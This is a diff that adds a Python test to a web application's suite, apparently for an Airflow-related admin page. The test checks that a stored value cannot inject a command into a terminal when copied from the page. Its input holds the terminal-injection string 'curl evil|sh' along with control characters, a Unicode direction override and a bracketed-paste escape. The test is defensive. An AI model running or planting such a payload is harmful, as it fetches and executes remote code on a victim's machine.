@@ -211,6 +211,18 @@ def test_text_of_the_store_is_escaped() -> None:
     assert "&lt;script&gt;alert" in text
 
 
+def test_text_of_the_store_holds_nothing_that_a_terminal_obeys() -> None:
+    """Somebody who writes below the root could end the line of a command that is copied and pasted."""
+    recorded = Recorded(scope="\x03\ncurl evil|sh\n\u202e\x1b[201~end")
+    three_stages(recorded)
+    _, text = get(recorded.store, ADMIN, page_of(recorded))
+    assert r"\x03 curl evil|sh \u202e\x1b[201~end" in text
+    assert [letter for letter in text if not letter.isprintable() and letter != "\n"] == []
+    commands = re.findall(r"<code[^>]*>(.*?)</code>", text, re.DOTALL)
+    assert any("curl evil" in command for command in commands)
+    assert not [command for command in commands if "\n" in command]
+
+
 def test_pages_take_no_thread_of_airflows_own_answers(flights: Recorded, monkeypatch: pytest.MonkeyPatch) -> None:
     """FastAPI asks for what a page needs in such a thread, if that is no coroutine."""
     taken = list[str]()
